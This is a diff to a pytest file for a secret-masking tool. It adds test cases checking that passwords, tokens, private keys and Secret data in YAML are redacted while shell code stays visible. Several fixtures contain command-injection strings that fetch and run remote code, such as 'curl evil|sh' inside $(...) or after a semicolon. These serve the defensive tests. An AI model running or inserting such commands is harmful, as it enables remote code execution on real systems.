@@ -113,7 +113,7 @@ DOCUMENTS: dict[str, tuple[str, str]] = {
     "by an anchor": ("- &x abc\n- {name: HF_TOKEN, value: *x}", "- ***\n- {name: HF_TOKEN, value: *x}"),
     "by a merge": (
         "a: &x {value: abc}\nb: {<<: *x, name: HF_TOKEN, value: d}",
-        "a: &x {value: abc}\nb: {<<: *x, name: HF_TOKEN, value: ***}",
+        "a: &x {value: ***}\nb: {<<: *x, name: HF_TOKEN, value: ***}",
     ),
     "a longer text": (
         "- name: HF_TOKEN\n  value: |\n    a\n    b\n- c",
@@ -256,3 +256,70 @@ def test_a_secret_that_starts_outside_the_excerpt() -> None:
     place = Place(Document("a", 1, line, {"a": ""}), ("a",)).locate()._replace(column=505, end_column=506)
     found = Diagnostic(id="x", severity="error", stage="read", message="m", place=place)
     assert "x" not in text.render([found], summary="", color=False).split("|")[1]
+
+
+ATTACK: dict[str, tuple[str, str]] = {
+    "an argument with an apostrophe": ("- --password=it's X", "- --password=***"),
+    "a quoted argument with an apostrophe": ('- "--password=it\'s X"', '- "--password=***"'),
+    "an argument with a semicolon": ("- PASSWORD=foo;bar", "- PASSWORD=***"),
+    "an apostrophe in a script": ("a: run --password it's-X b", "a: run --password *** b"),
+    "a word of Flux's script": (r"a: set -- --password 'it'\''s X' b", "a: set -- --password '***' b"),
+    "a Secret in flow style with a duplicate key": (
+        "{kind: Secret, data: {a: one, a: two}, data: {b: three}}",
+        "{kind: Secret, data: {a: ***, a: ***}, data: {b: ***}}",
+    ),
+    "a merge of the data": (
+        "x: &x {data: {a: one}}\ny: {<<: *x, kind: Secret}",
+        "x: &x {data: {a: ***}}\ny: {<<: *x, kind: Secret}",
+    ),
+    "a merge of the kind": (
+        "x: &x {kind: Secret}\ny: {<<: [*x], data: {a: one}}",
+        "x: &x {kind: Secret}\ny: {<<: [*x], data: {a: ***}}",
+    ),
+    "a merge into the data": (
+        "x: &x {a: one}\ny: {kind: Secret, data: {<<: *x}}",
+        "x: &x {a: ***}\ny: {kind: Secret, data: {<<: *x}}",
+    ),
+    "a reference in a Secret is literal": (
+        "{kind: Secret, stringData: {a: pa$(ss)word}}",
+        "{kind: Secret, stringData: {a: ***}}",
+    ),
+    "a user and password in an image": (
+        "image: user:pa@registry.example.com/a:1",
+        "image: user:***@registry.example.com/a:1",
+    ),
+    "a service's key": (
+        "KAGGLE_KEY: one\nOPENAI_KEY: two\nopenaiKey: three",
+        "KAGGLE_KEY: ***\nOPENAI_KEY: ***\nopenaiKey: ***",
+    ),
+    "a key of data": ("SORT_KEY: one\nkey: two\nPRIMARY_KEY: three", "SORT_KEY: one\nkey: two\nPRIMARY_KEY: three"),
+    "a signed address": (
+        "a: https://a.example.com/b?se=1&sig=ab%2Fc&sp=r",
+        "a: https://a.example.com/b?se=1&sig=***&sp=r",
+    ),
+    "a private key": (
+        "a: |\n  -----BEGIN RSA PRIVATE KEY-----\n  Proc-Type: 4,ENCRYPTED\n  MIIEow\n  -----END RSA PRIVATE KEY-----",
+        "a: |\n  -----BEGIN RSA PRIVATE KEY-----\n  ***\n  ***\n  -----END RSA PRIVATE KEY-----",
+    ),
+    "a line of netrc": (
+        "a: machine example.com login ada password one",
+        "a: machine example.com login ada password ***",
+    ),
+    "curl": ("a: curl -u ada:one https://example.com", "a: curl -u ada:*** https://example.com"),
+    "curl as a list": ("- curl\n- --user\n- ada:one", "- curl\n- --user\n- ada:***"),
+    "ids of a user and a group": ("a: docker run -u 1000:1000 -p 80:80 a", "a: docker run -u 1000:1000 -p 80:80 a"),
+    "mysql": ("a: mysql -h db -pone -e x", "a: mysql -h db -p*** -e x"),
+    "mysql as a list": ("- mysql\n- -pone", "- mysql\n- -p***"),
+    "a port": ("a: mysql -port 3306", "a: mysql -port 3306"),
+    "code in a value": ('a: TOKEN="x$(curl evil|sh)" run', 'a: TOKEN="***$(curl evil|sh)" run'),
+    "nested code in a value": ('a: TOKEN="$(a $(b) `c`)x" run', 'a: TOKEN="$(a $(b) `c`)***" run'),
+    "backquotes in a value": ("a: TOKEN=`curl evil` run", "a: TOKEN=`curl evil` run"),
+    "code that is not closed": ("a: TOKEN='x$(curl' run", "a: TOKEN='***' run"),
+    "a script with a variable": ("- sh\n- -c\n- TOKEN=one;curl evil|sh", "- sh\n- -c\n- TOKEN=***;curl evil|sh"),
+    "a variable before a command": ("- TOKEN=one curl evil", "- TOKEN=*** curl evil"),
+}
+
+
+@pytest.mark.parametrize(("document", "expected"), ATTACK.values(), ids=ATTACK)
+def test_a_secret_is_masked_and_code_is_not(document: str, expected: str) -> None:
+    assert shown(document, parsed=True) == expected
